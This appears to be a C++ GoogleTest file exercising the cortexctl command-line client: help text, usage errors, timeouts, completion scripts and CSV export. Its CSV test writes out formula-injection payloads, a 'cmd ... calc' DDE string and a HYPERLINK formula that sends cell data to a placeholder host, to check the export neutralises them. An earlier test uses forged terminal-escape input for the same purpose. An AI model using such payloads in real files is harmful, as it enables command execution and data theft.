  EXPECT_NE(r.out.find("abbreviated to a unique prefix"), std::string::npos) << r.out;
  EXPECT_NE(d.Ctl({"--help"}).out.find("--version"), std::string::npos);
  // help on a nested command is its --help; the note on IDs only where an ID is taken.
  r = d.Ctl({"help", "models", "rollback"});
  EXPECT_EQ(r.code, 0) << r.err;
  EXPECT_EQ(r.out, d.Ctl({"models", "rollback", "--help"}).out);
  EXPECT_NE(r.out.find("Usage: cortexctl models rollback [OPTIONS] VERSION"), std::string::npos)
      << r.out;
  EXPECT_EQ(r.out.find("abbreviated"), std::string::npos) << r.out;
  EXPECT_NE(d.Ctl({"wait", "--help"}).out.find("Usage: cortexctl wait [OPTIONS] ID"),
            std::string::npos);
  EXPECT_EQ(d.Ctl({"history", "--help"}).out.find("abbreviated"), std::string::npos);
  EXPECT_NE(d.Ctl({"events", "--help"}).out.find("retrains and rollbacks"), std::string::npos);
  // No validator text in help or in messages.
  r = d.Ctl({"submit", "--help"});
  for (const char* raw : {"FLOAT", "NUMBER", " AND ", "in ["})
    EXPECT_EQ(r.out.find(raw), std::string::npos) << raw << "\n" << r.out;
  for (auto [args, want] : std::vector<std::pair<std::vector<std::string>, std::string>>{
           {{"submit", "x", "--wait", "--timeout", "inf"},
            "cortexctl: --timeout: expected seconds between 0 and 86400, got 'inf'"},
           {{"submit", "x", "--wait", "--timeout", "0x10"},
            "cortexctl: --timeout: expected seconds between 0 and 86400, got '0x10'"},
           {{"history", "--limit", "abc"},
            "cortexctl: --limit: expected a whole number between 1 and 100000, got 'abc'"},
           {{"submit", "x", "--timeout", "5"}, "cortexctl: --timeout needs --wait"},
           {{"submit", "x", "--tag", "k k=v"}, "cortexctl: --tag 'k k=v': a key must be"},
           {{"show", "abc"}, "cortexctl: task id 'abc' is too short"}}) {
    r = d.Ctl(args);
    EXPECT_EQ(r.code, 2) << args[1];
    EXPECT_EQ(r.err.rfind(want, 0), 0u) << r.err;
    EXPECT_EQ(std::count(r.err.begin(), r.err.end(), '\n'), 1) << r.err;
  }
  r = d.Ctl({"frobnicate"});
  EXPECT_EQ(r.code, 2);
  EXPECT_NE(r.err.find("'frobnicate' is not a cortexctl command"), std::string::npos) << r.err;
  // Usage errors under --json are one JSON document too.
  for (std::vector<std::string> args : {std::vector<std::string>{"frobnicate", "--json"},
                                        {"submit", "--json"},
                                        {"export", "--format", "csv", "--json"},
                                        {"submit", "x", "--timeout", "nan", "--json"},
                                        {"feedback", "abcd", "--quality", "nan", "--json"},
                                        {"submit", "x", "--tag", "k=1", "--tag", "k=2", "--json"},
                                        {"--json", "feedback", "abcd"},
                                        {"--json", "history", "--since", "garbage"},
                                        {"--json", "history", "--since", "-5m"},
                                        {"--json", "history", "--since", "2026-13-45T99:99:99Z"},
                                        {"--json", "export", "--since", "garbage"},
                                        {"--json", "completion", "bash"},
                                        {"--json", "help", "nosuch"},
                                        {"--json", "models", "rollback", "vx"},
                                        {"--json", "submit", ""},
                                        {"--json", "show", "abc"},
                                        {"--json", "submit", "x", "--tag", "k k=v"}}) {
    r = d.Ctl(args);
    EXPECT_EQ(r.code, 2) << args[0] << " " << args[1];
    json j = r.Json();
    ASSERT_TRUE(j.is_object()) << args[0] << ": " << r.out;
    EXPECT_EQ(j["error"]["code"], "usage") << j;
  }
  r = d.Ctl({"submit", "bad \xff bytes"});
  EXPECT_EQ(r.code, 2);
  EXPECT_NE(r.err.find("not valid UTF-8"), std::string::npos) << r.err;
  r = d.Ctl({"show", std::string(100000, 'a')});
  EXPECT_EQ(r.code, 1);
  EXPECT_NE(r.err.find("a task id of 100000 bytes"), std::string::npos) << r.err.substr(0, 200);
  EXPECT_LT(r.err.size(), 200u) << "the id is not echoed";
  r = d.Ctl({"submit", "x", "--tag", "k=1", "--tag", "k=2"});
  EXPECT_NE(r.err.find("--tag k is given twice"), std::string::npos) << r.err;
  r = d.Ctl({"submit", "x", "--timeout", "nan", "--wait"});
  EXPECT_NE(r.err.find("expected seconds between 0 and 86400, got 'nan'"), std::string::npos)
      << r.err;
  // --since takes the time `history` prints.
  const std::string quick_id = d.CtlJson({"submit", "quick one", "--wait"})["id"];
  // Feedback of -0 is 0 (not -0.0), and a quality too small for a double is 0 too.
  r = d.Ctl({"feedback", quick_id, "--quality", "-0", "--json"});
  ASSERT_EQ(r.code, 0) << r.err;
  EXPECT_EQ(r.out.find("-0"), std::string::npos) << r.out;
  r = d.Ctl({"feedback", quick_id, "--quality", "-0"});
  EXPECT_NE(r.out.find("quality 0.00"), std::string::npos) << r.out;
  EXPECT_EQ(r.out.find("-0"), std::string::npos) << r.out;
  EXPECT_EQ(d.Ctl({"feedback", quick_id, "--quality", "1e-400"}).code, 0);

  r = d.Ctl({"history"});
  const std::string printed = r.out.substr(r.out.find('\n') + 1, 19);
  r = d.Ctl({"history", "--since", printed});
  EXPECT_EQ(r.code, 0) << r.err;
  EXPECT_NE(r.out.find("quick one"), std::string::npos) << r.out;
  EXPECT_EQ(d.Ctl({"history", "--since", "90m"}).code, 0);
  // Human output passes no control character and no bidi control: single-line fields show
  // them escaped, an expert's output is indented under its heading line by line.
  const std::string forged = "\n  state:   FORGED\x1b[2J\xe2\x80\xae";
  r = d.Ctl({"submit", "parrot says" + forged, "--tag", "note=x" + forged, "--wait"});
  ASSERT_EQ(r.code, 0) << r.err;
  const std::string parrot = r.out.substr(0, 12);
  for (const std::string& out : {r.out, d.Ctl({"show", parrot}).out}) {
    EXPECT_EQ(out.find("\x1b"), std::string::npos) << out;
    EXPECT_EQ(out.find("\xe2\x80\xae"), std::string::npos) << out;
    EXPECT_EQ(out.find("\n  state:"), std::string::npos) << out;
    EXPECT_NE(out.find("\\x1b[2J\\u202e"), std::string::npos) << out;
  }
  r = d.Ctl({"show", parrot});
  EXPECT_NE(r.out.find("  text:     parrot says\\n  state:   FORGED"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("note=x\\n  state:   FORGED"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("     | parrot says\n     |   state:   FORGED"), std::string::npos) << r.out;
  r = d.Ctl({"route", "x\nz"});
  EXPECT_EQ(r.out.rfind("route: x\\nz\n", 0), 0u) << r.out;
  r = d.Ctl({"experts", "release", "a\nc"});
  EXPECT_EQ(r.code, 1);
  EXPECT_NE(r.err.find("a\\nc"), std::string::npos) << r.err;
  EXPECT_EQ(std::count(r.err.begin(), r.err.end(), '\n'), 1) << r.err;
  // route: `score` is the final score (rule + model + biases), and the ranking is by it.
  json route = d.CtlJson({"route", "slow quick"});
  ASSERT_GE(route["candidates"].size(), 2u) << route;
  double prev = 1e9;
  for (const auto& c : route["candidates"]) {
    const double sum = c["rule_score"].get<double>() + c["model_score"].get<double>() +
                       c["load_bias"].get<double>() + c["health_bias"].get<double>();
    EXPECT_NEAR(c["score"].get<double>(), sum, 1e-9) << c;
    EXPECT_LE(c["score"].get<double>(), prev + 1e-12) << route;
    prev = c["score"].get<double>();
  }
  // experts: what ROUTED and SUCCESS count is said, and ATTEMPTS is shown.
  r = d.Ctl({"experts"});
  EXPECT_NE(r.out.find("ATTEMPTS"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("ROUTED: tasks the router chose it for"), std::string::npos) << r.out;
}

// A socket that is there but not this user's: the message says so, and who may connect.
TEST(CliTest, PermissionDeniedSaysWhoMayConnect) {
  TempDir dir;
  ASSERT_EQ(chmod(dir.path().c_str(), 0755), 0);
  const std::string sock = dir / "s.sock";
  const int fd = socket(AF_UNIX, SOCK_STREAM, 0);
  sockaddr_un addr{};
  addr.sun_family = AF_UNIX;
  std::snprintf(addr.sun_path, sizeof addr.sun_path, "%s", sock.c_str());
  ASSERT_EQ(bind(fd, reinterpret_cast<sockaddr*>(&addr), sizeof addr), 0);
  ASSERT_EQ(listen(fd, 4), 0);
  ASSERT_EQ(chmod(sock.c_str(), 0600), 0);
  // Root connects anyway: then cortexctl runs as nobody.
  std::vector<std::string> argv = {Cortexctl(), "--socket", sock, "status"};
  if (geteuid() == 0) {
    if (test::RunCmd({"sh", "-c", "command -v setpriv"}).code != 0)
      GTEST_SKIP() << "running as root without setpriv (util-linux) to drop privileges";
    argv.insert(argv.begin(),
                {"setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--"});
  } else {
    ASSERT_EQ(chmod(sock.c_str(), 0), 0);
  }
  test::Run r = test::RunCmd(argv);
  close(fd);
  EXPECT_EQ(r.code, 3) << r.err;
  EXPECT_NE(r.err.find("Permission denied"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("the socket belongs to user"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("may connect"), std::string::npos) << r.err;
  EXPECT_EQ(r.err.find("is cortexd running?"), std::string::npos) << r.err;
}

TEST(CliTest, CompletionScriptsComeFromTheCommandDefinitions) {
  test::Run help = test::RunCmd({Cortexctl(), "help"});
  ASSERT_EQ(help.code, 0);
  // Every command `help` lists.
  std::vector<std::string> commands;
  std::istringstream lines(help.out.substr(help.out.find("Subcommands:")));
  std::string line;
  std::getline(lines, line);
  while (std::getline(lines, line) && line.size() > 2 && line[0] == ' ')
    commands.push_back(line.substr(2, line.find(' ', 2) - 2));
  ASSERT_GE(commands.size(), 15u) << help.out;
  for (const char* shell : {"bash", "zsh", "fish"}) {
    test::Run r = test::RunCmd({Cortexctl(), "completion", shell});
    ASSERT_EQ(r.code, 0) << r.err;
    for (const auto& c : commands) EXPECT_NE(r.out.find(" " + c), std::string::npos) << shell << c;
    EXPECT_NE(r.out.find("outcome"), std::string::npos) << shell;
    EXPECT_NE(r.out.find("cancelled"), std::string::npos) << shell;  // --outcome's values
  }
  EXPECT_EQ(test::RunCmd({Cortexctl(), "completion", "tcsh"}).code, 2);
  // The build generates them for `cmake --install` (share/bash-completion/completions, ...).
  EXPECT_EQ(test::ReadFile(test::BinDir() + "/../share/completions/cortexctl.bash"),
            test::RunCmd({Cortexctl(), "completion", "bash"}).out);
  EXPECT_EQ(test::ReadFile(test::BinDir() + "/../share/completions/cortexctl.fish"),
            test::RunCmd({Cortexctl(), "completion", "fish"}).out);

  // bash: the function completes commands, subcommands and option values.
  TempDir dir;
  test::WriteFile(dir / "c.bash", test::RunCmd({Cortexctl(), "completion", "bash"}).out);
  auto complete = [&](const std::string& words) {
    const std::string script = "source " + dir / "c.bash" + "; COMP_WORDS=(" + words +
                               "); COMP_CWORD=$((${#COMP_WORDS[@]}-1)); _cortexctl; echo "
                               "\"${COMPREPLY[*]}\"";
    return test::RunCmd({"bash", "-c", script}).out;
  };
  EXPECT_EQ(complete("cortexctl hi"), "history\n");
  EXPECT_EQ(complete("cortexctl --json ca"), "cancel\n");
  EXPECT_EQ(complete("cortexctl models ro"), "rollback\n");
  EXPECT_EQ(complete("cortexctl history --outcome can"), "cancelled\n");
  EXPECT_EQ(complete("cortexctl export --format c"), "csv\n");
  EXPECT_NE(complete("cortexctl submit --").find("--no-repo"), std::string::npos);
  // The global --timeout (issue 24), and a command after its value.
  EXPECT_EQ(complete("cortexctl --ti"), "--timeout\n");
  EXPECT_EQ(complete("cortexctl --timeout 5 stat"), "status\n");
  // zsh and fish, where installed, accept their scripts.
  for (const char* shell : {"zsh", "fish"}) {
    if (test::RunCmd({"sh", "-c", std::string("command -v ") + shell}).code != 0) {
      ADD_FAILURE() << shell << " is not installed (scripts/install-deps.sh installs it)";
      continue;
    }
    test::WriteFile(dir / "c" + shell, test::RunCmd({Cortexctl(), "completion", shell}).out);
    test::Run r = test::RunCmd({shell, "-n", dir / "c" + shell});
    EXPECT_EQ(r.code, 0) << shell << ": " << r.err;
  }
  if (test::RunCmd({"sh", "-c", "command -v fish"}).code == 0) {
    test::Run r =
        test::RunCmd({"fish", "-c", "source " + dir / "cfish" + "; complete -C 'cortexctl hist'"});
    EXPECT_NE(r.out.find("history"), std::string::npos) << r.out << r.err;
  }
}

// A cortexctl run and how long it took, in seconds.
std::pair<test::Run, double> Timed(const std::vector<std::string>& argv,
                                   std::vector<std::string> env = test::BaseEnv()) {
  const auto start = std::chrono::steady_clock::now();
  test::Run r = test::RunCmd(argv, 40, "", std::move(env), "/");
  return {r, std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count()};
}

// Issue 24 item 6: a cortexd that stops answering (SIGSTOP) held every cortexctl for ever.
// A plain request now gives up after --timeout (CORTEX_TIMEOUT, default 10 s) with exit 3; a
// wait after its own timeout and a grace, with exit 4; --follow's polls are bounded and it
// goes on once cortexd is back; and cortexd, continued, is unharmed.
TEST(CliTest, ADaemonThatStopsAnsweringIsGivenUpOn) {
  TempDir dir;
  Daemon d(dir, kSlowExperts);
  ASSERT_TRUE(d.Start()) << d.Log();
  const std::string running = d.CtlJson({"submit", "slow one"})["id"];
  ASSERT_TRUE(d.WaitStatus([](const json& s) { return s["inflight"] == 1; }));
  const std::string follow_out = dir / "follow.out", follow_err = dir / "follow.err";
  const pid_t follower = fork();
  if (follower == 0) {
    FILE* o = freopen(follow_out.c_str(), "w", stdout);
    FILE* e = freopen(follow_err.c_str(), "w", stderr);
    (void)o, (void)e;
    // (its polls bounded by CORTEX_TIMEOUT)
    const char* env[] = {"PATH=/usr/bin:/bin", "CORTEX_TIMEOUT=1", nullptr};
    execle(Cortexctl().c_str(), Cortexctl().c_str(), "--socket", d.socket.c_str(), "history",
           "--follow", (char*)nullptr, env);
    _exit(127);
  }
  struct Reap {  // the follower ends with the test, however it ends
    pid_t pid;
    ~Reap() {
      kill(pid, SIGTERM);
      waitpid(pid, nullptr, 0);
    }
  } reap{follower};
  ASSERT_TRUE(test::Eventually([&] { return !test::ReadFile(follow_out).empty(); }));
  sleep(1);  // (its first poll)

  ASSERT_EQ(kill(d.pid, SIGSTOP), 0);
  const std::vector<std::string> ctl = {Cortexctl(), "--socket", d.socket};
  auto with = [&](std::vector<std::string> args) {
    std::vector<std::string> argv = ctl;
    argv.insert(argv.end(), args.begin(), args.end());
    return argv;
  };
  // As the issue ran it, with no option: a plain request gives up after the default 10 s.
  auto [r, secs] = Timed(with({"status"}));
  EXPECT_EQ(r.code, 3) << r.err;
  EXPECT_NE(r.err.find("cortexd does not answer"), std::string::npos) << r.err;
  EXPECT_GE(secs, 9.0);
  EXPECT_LT(secs, 20.0);
  // --timeout 2: exit 3 within a few seconds, saying so.
  std::tie(r, secs) = Timed(with({"--timeout", "2", "status"}));
  EXPECT_EQ(r.code, 3) << r.err;
  EXPECT_NE(r.err.find("cortexd does not answer"), std::string::npos) << r.err;
  EXPECT_GE(secs, 1.5);
  EXPECT_LT(secs, 10.0);
  // CORTEX_TIMEOUT sets it too; under --json the error is the one document.
  std::vector<std::string> env = test::BaseEnv();
  env.push_back("CORTEX_TIMEOUT=1");
  std::tie(r, secs) = Timed(with({"show", running, "--json"}), env);
  EXPECT_EQ(r.code, 3) << r.err;
  EXPECT_LT(secs, 10.0);
  const json error =
      r.Json().is_object() ? r.Json().value("error", json::object()) : json::object();
  EXPECT_EQ(error.value("code", ""), "unreachable") << r.out;
  EXPECT_NE(error.value("message", "").find("cortexd does not answer"), std::string::npos) << r.out;
  // A wait: its own timeout and a small grace, then exit 4 as for any wait that runs out.
  std::tie(r, secs) = Timed(with({"wait", running, "--timeout", "1"}));
  EXPECT_EQ(r.code, 4) << r.err;
  EXPECT_NE(r.err.find("cortexd does not answer"), std::string::npos) << r.err;
  EXPECT_LT(secs, 10.0);
  // submit --wait too; the daemon takes the submit in once it runs again, and runs it.
  std::tie(r, secs) = Timed(with({"submit", "quick taken in late", "--wait", "--timeout", "1"}));
  EXPECT_EQ(r.code, 4) << r.err;
  EXPECT_NE(r.err.find("cortexd does not answer"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("still runs"), std::string::npos) << r.err;
  EXPECT_LT(secs, 10.0);
  // --follow's polls are bounded: it says cortexd is away and keeps following.
  EXPECT_TRUE(test::Eventually(
      [&] { return test::ReadFile(follow_err).find("not answering") != std::string::npos; }, 20))
      << test::ReadFile(follow_err);
  EXPECT_EQ(waitpid(follower, nullptr, WNOHANG), 0) << "the follower is still running";

  ASSERT_EQ(kill(d.pid, SIGCONT), 0);
  // cortexd is unharmed: it answers, and the submit it took in late ran.
  EXPECT_EQ(d.Ctl({"status"}).code, 0);
  EXPECT_TRUE(test::Eventually([&] {
    for (const auto& row : d.CtlJson({"history"}))
      if (row.value("text", "") == "quick taken in late" && row.value("state", "") == "succeeded")
        return true;
    return false;
  })) << d.CtlJson({"history"});
  const std::string after = d.CtlJson({"submit", "quick after the pause", "--wait"})["id"];
  EXPECT_TRUE(test::Eventually([&] {
    return test::ReadFile(follow_out).find(after) != std::string::npos;
  })) << test::ReadFile(follow_out);
  EXPECT_EQ(d.Ctl({"cancel", running}).code, 0);
}

// The other side of item 6: a deadline must not cut off a request that legitimately takes
// long on a cortexd that is alive. Waits get their own timeout (not --timeout); a reload
// (or retrain, report, export, history) silent for longer than --timeout goes on while
// cortexd answers a status request, and is given up on once that goes unanswered too.
TEST(CliTest, LongRequestsOnALiveDaemonAreNotCutOff) {
  TempDir dir;
  Daemon d(dir, kSlowExperts, "router: {exploration: 0, seed: 1}\ntraining: {online: false}\n",
           /*bundled=*/true, ", load_timeout: 6s");
  ASSERT_TRUE(d.Start()) << d.Log();
  const std::vector<std::string> ctl = {Cortexctl(), "--socket", d.socket, "--timeout", "1"};
  auto with = [&](std::vector<std::string> args) {
    std::vector<std::string> argv = ctl;
    argv.insert(argv.end(), args.begin(), args.end());
    return argv;
  };
  const std::string running = d.CtlJson({"submit", "slow one"})["id"];
  ASSERT_TRUE(d.WaitStatus([](const json& s) { return s["inflight"] == 1; }));
  // The wait runs its 3 s, past --timeout 1: cortexd's own answer, not "does not answer".
  auto [r, secs] = Timed(with({"wait", running, "--timeout", "3"}));
  EXPECT_EQ(r.code, 4) << r.err;
  EXPECT_NE(r.err.find("is still running after 3s"), std::string::npos) << r.err;
  EXPECT_GE(secs, 2.5);
  std::tie(r, secs) = Timed(with({"submit", "slow two", "--wait", "--timeout", "2.5"}));
  EXPECT_EQ(r.code, 4) << r.err;
  EXPECT_NE(r.err.find(" is still routed after 2.5s"), std::string::npos) << r.err;
  EXPECT_GE(secs, 2.0);
  EXPECT_EQ(d.Ctl({"--timeout", "0", "status"}).code, 0);  // 0: no deadline at all

  // A reload that finds a plugin hanging in its constructor answers once that load is
  // refused, after plugins.load_timeout (6 s): not cut off at --timeout 2, cortexd answering
  // status meanwhile. (2 s: room for a sanitized cortexd to answer status.)
  auto reload = [&] {
    return Timed({Cortexctl(), "--socket", d.socket, "--timeout", "2", "reload"});
  };
  auto add_hanging = [&](const std::string& name) {
    const std::string to = d.plugin_dir + "/" + name;
    fs::copy_file(test::TestPluginDir() + "/echo_hangs_on_load.so", to);
    fs::permissions(to, fs::perms(0755), fs::perm_options::replace);
  };
  add_hanging("hang1.so");
  std::tie(r, secs) = reload();
  EXPECT_EQ(r.code, 0) << r.err;
  EXPECT_NE(r.out.find("reloaded"), std::string::npos) << r.out;
  EXPECT_GE(secs, 4.5) << "the reload was not a long one";
  // cortexd stops answering in the middle of one: given up on, exit 3.
  add_hanging("hang2.so");
  std::thread stopper([&] {
    usleep(2500000);
    kill(d.pid, SIGSTOP);
  });
  std::tie(r, secs) = reload();
  stopper.join();
  EXPECT_EQ(r.code, 3) << r.err;
  EXPECT_NE(r.err.find("cortexd does not answer"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("no answer to a status request either"), std::string::npos) << r.err;
  EXPECT_LT(secs, 12.0);
  kill(d.pid, SIGCONT);
  EXPECT_EQ(d.Ctl({"status"}).code, 0);

  // A bad --timeout or CORTEX_TIMEOUT is a usage error; --timeout goes before the command.
  r = test::RunCmd(with({"--timeout", "soon", "status"}));
  EXPECT_EQ(r.code, 2) << r.err;
  EXPECT_NE(r.err.find("--timeout: expected seconds"), std::string::npos) << r.err;
  std::vector<std::string> env = test::BaseEnv();
  env.push_back("CORTEX_TIMEOUT=-1");
  r = test::RunCmd({Cortexctl(), "--socket", d.socket, "status"}, 30, "", env);
  EXPECT_EQ(r.code, 2) << r.err;
  EXPECT_NE(r.err.find("CORTEX_TIMEOUT: expected seconds"), std::string::npos) << r.err;
  r = d.Ctl({"status", "--timeout", "2"});
  EXPECT_EQ(r.code, 2) << r.err;
  EXPECT_NE(r.err.find("--timeout goes before the command"), std::string::npos) << r.err;
  EXPECT_EQ(d.Ctl({"cancel", running}).code, 0);
}

// RFC 4180 CSV into rows of cells.
std::vector<std::vector<std::string>> ParseCsv(const std::string& s) {
  std::vector<std::vector<std::string>> rows(1, std::vector<std::string>(1));
  bool quoted = false;
  for (size_t i = 0; i < s.size(); ++i) {
    const char c = s[i];
    std::string& cell = rows.back().back();
    if (quoted) {
      if (c == '"' && i + 1 < s.size() && s[i + 1] == '"')
        cell += '"', ++i;
      else if (c == '"')
        quoted = false;
      else
        cell += c;
    } else if (c == '"') {
      quoted = true;
    } else if (c == ',') {
      rows.back().emplace_back();
    } else if (c == '\n') {
      rows.emplace_back(1);
    } else {
      cell += c;
    }
  }
  if (rows.back().size() == 1 && rows.back()[0].empty()) rows.pop_back();
  return rows;
}

// Issue 24 item 8: a task text such as =HYPERLINK(...) came out of `export --format csv`
// as a cell a spreadsheet runs as a formula. Every text cell that starts with = + - @, a
// tab, a carriage return or a line feed now gets a leading ' (OWASP's rule), in every text
// column; a number stays a number; jsonl keeps the text exact.
TEST(CliTest, CsvExportCarriesNoFormulas) {
  TempDir dir;
  // An expert whose name starts with '-': the expert column is text too.
  Daemon d(dir, "experts:\n  - {name: \"-cat\", plugin: command, run: [\"cat\"]}\n",
           "router: {exploration: 0, seed: 1}\ntraining: {online: false}\n", /*bundled=*/false);
  ASSERT_TRUE(d.Start()) << d.Log();
  const std::vector<std::string> formulas = {"=HYPERLINK(\"http://x\"&A1,\"click\") echo",
                                             "+1+cmd|' /C calc'!A0",
                                             "-2+3+cmd|' /C calc'!A0",
                                             "@SUM(A1:A2)",
                                             "\t=1+1",
                                             "\r=1+1",
                                             "\n=1+1",
                                             "-dash",
                                             "'=already quoted"};
  const std::vector<std::string> plain = {"-5", "+3.25", "-1e3", "plain, with \"quotes\" =x"};
  std::vector<std::string> all = formulas;
  all.insert(all.end(), plain.begin(), plain.end());
  for (const auto& t : all) {  // (from stdin: "-5" would be read as an option)
    test::Run r = test::RunCmd({Cortexctl(), "--socket", d.socket, "submit", "-", "--wait"}, 60, t,
                               test::BaseEnv(), "/");
    ASSERT_EQ(r.code, 0) << t << ": " << r.err;
  }
  test::Run r = d.Ctl({"export", "--format", "csv"});
  ASSERT_EQ(r.code, 0) << r.err;
  auto rows = ParseCsv(r.out);
  ASSERT_EQ(rows.size(), all.size() + 1) << r.out;
  const std::vector<std::string>& head = rows[0];
  auto col = [&](const std::string& name) {
    return static_cast<size_t>(std::find(head.begin(), head.end(), name) - head.begin());
  };
  const size_t text = col("text"), expert = col("expert"), confidence = col("confidence");
  ASSERT_LT(text, head.size()) << r.out;
  std::map<std::string, std::vector<std::string>> by_text;
  for (size_t i = 1; i < rows.size(); ++i) {
    ASSERT_EQ(rows[i].size(), head.size()) << r.out;
    by_text[rows[i][text]] = rows[i];
    // No cell anywhere starts a formula, unless it is a number.
    for (const auto& cell : rows[i]) {
      if (cell.empty() || std::string("=+-@\t\r\n").find(cell[0]) == std::string::npos) continue;
      char* end = nullptr;
      std::strtod(cell.c_str(), &end);
      EXPECT_TRUE(end == cell.c_str() + cell.size()) << "cell '" << cell << "' starts a formula";
    }
    EXPECT_EQ(rows[i][expert], "'-cat") << r.out;
    EXPECT_EQ(rows[i][col("feedback_quality")], "") << "no number: an empty cell";
    char* end = nullptr;
    std::strtod(rows[i][confidence].c_str(), &end);
    EXPECT_EQ(*end, '\0') << "a number stays a number: " << rows[i][confidence];
  }
  for (const auto& t : formulas)
    EXPECT_EQ(by_text.count("'" + t), 1u) << "'" << t << "'\n" << r.out;
  for (const auto& t : plain) EXPECT_EQ(by_text.count(t), 1u) << t << "\n" << r.out;
  // jsonl (and --json) keep every text exact.
  r = d.Ctl({"export"});
  ASSERT_EQ(r.code, 0) << r.err;
  std::set<std::string> exact;
  std::istringstream lines(r.out);
  for (std::string line; std::getline(lines, line);) {
    json row = json::parse(line);
    exact.insert(row["text"].get<std::string>());
    EXPECT_EQ(row["expert"], "-cat");
  }
  EXPECT_EQ(exact, std::set<std::string>(all.begin(), all.end()));
  json doc = d.CtlJson({"export"});
  ASSERT_EQ(doc.size(), all.size()) << doc;
  for (const auto& row : doc) EXPECT_EQ(exact.count(row["text"].get<std::string>()), 1u) << row;
}

}  // namespace
}  // namespace cortex
